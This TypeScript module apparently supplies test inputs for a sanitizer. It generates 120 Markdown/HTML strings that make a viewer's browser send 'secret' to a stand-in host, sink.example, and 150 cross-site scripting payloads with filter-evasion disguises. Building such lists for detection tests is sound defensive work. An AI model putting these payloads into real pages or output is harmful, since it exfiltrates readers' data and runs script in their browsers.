/** Nobody answers there; a page that asks is found out by what watches it. */
const HOST = 'sink.example';
const SPELLINGS = [
  `https://${HOST}/?d=secret`,
  `//${HOST}/?d=secret`,
  `HTTPS://${HOST.toUpperCase()}:443/?d=secret`,
];

/** Ways to have a reader's machine ask an address, as Markdown or HTML would have it. */
const ASKING: ((url: string) => string)[] = [
  (url) => `![a](${url})`,
  (url) => `![a](<${url}> "t")`,
  (url) => `![a][r]\n\n[r]: ${url}`,
  (url) => `[![a](${url})](${url})`,
  (url) => `[click](${url})`,
  (url) => `<${url}>`,
  (url) => `See ${url} now`,
  (url) => `<img src="${url}">`,
  (url) => `<IMG\nSRC=${url}>`,
  (url) => `<img srcset="${url} 1x, ${url} 2x">`,
  (url) => `<img src=x onerror="fetch('${url}')">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<video src="${url}" autoplay></video>`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<link rel="stylesheet" href="${url}">`,
  (url) => `<link rel="prefetch" href="${url}">`,
  (url) => `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
  (url) => `<style>@import url("${url}");</style>`,
  (url) => `<style>body { background: url("${url}"); }</style>`,
  (url) => `<div style="background: url('${url}')">x</div>`,
  (url) => `<svg><image href="${url}"/></svg>`,
  (url) => `<svg><use href="${url}#a"/></svg>`,
  (url) => `<svg><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)"/></svg>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<form action="${url}"><button autofocus>x</button></form>`,
  (url) => `<input type="image" src="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}"><img src="x">`,
  (url) => `<body background="${url}"><table background="${url}"><tr><td background="${url}">x</table>`,
  (url) => `<a href="#" ping="${url}">x</a>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `[x](javascript:fetch('${url}'))`,
  (url) => `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>)`,
  (url) => `&lt;img src=${url}&gt; &#60;img src=${url}&#62;`,
  (url) => `<details open ontoggle="navigator.sendBeacon('${url}')">x</details>`,
];

/** 120 texts that would carry something out of a page by being looked at. */
export const CARRYING_OUT: readonly string[] = SPELLINGS.flatMap((url) =>
  ASKING.map((asking) => asking(url)),
);

const DEED = "document.title='owned'";

/** Ways to have a page run something, as HTML, Markdown or a template would have it. */
const RUNS = [
  `<script>${DEED}</script>`,
  `<scr<script>ipt>${DEED}</scr</script>ipt>`,
  `"><script>${DEED}</script>`,
  `'><svg onload=${DEED}>`,
  `<svg/onload=${DEED}>`,
  `<svg><script>${DEED}</script></svg>`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`,
  `<img src=x onerror=${DEED}>`,
  `<img src=x:alert onerror=eval(alt) alt=${DEED}>`,
  `<body onload=${DEED}>`,
  `<input onfocus=${DEED} autofocus>`,
  `<select onfocus=${DEED} autofocus>`,
  `<details open ontoggle=${DEED}>`,
  `<video><source onerror=${DEED}></video>`,
  `<audio src=x onerror=${DEED}>`,
  `<marquee onstart=${DEED}>x</marquee>`,
  `<iframe src="javascript:parent.${DEED}"></iframe>`,
  `<iframe srcdoc="<script>parent.${DEED}</script>"></iframe>`,
  `<object data="javascript:${DEED}"></object>`,
  `<embed src="javascript:${DEED}">`,
  `<a href="javascript:${DEED}" autofocus onfocus=${DEED}>x</a>`,
  `[x](javascript:${DEED})`,
  `[x](data:text/html,<script>opener.${DEED}</script>)`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${DEED}">x</maction></math>`,
  `<form><button formaction="javascript:${DEED}" autofocus>x</button></form>`,
  `<style onload=${DEED}></style>`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`,
  `<template><script>${DEED}</script></template>`,
  `{{constructor.constructor("${DEED}")()}}`,
  `\${${DEED}}`,
];

/** Ways past a filter that knows the plain form only. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replaceAll(/<(\/?)([a-z]+)/g, (_, slash: string, tag: string) => `<${slash}${tag.toUpperCase()}`),
  (text) => text.replaceAll(/(<[a-z]+) /g, '$1\t\n/'),
  (text) => `--></textarea></title></noscript>"'>${text}`,
  (text) => `**[${text}](x "${text}")**`,
];

/** 150 texts that would run in a page. */
export const RUNNING: readonly string[] = DISGUISES.flatMap((disguise) => RUNS.map(disguise));
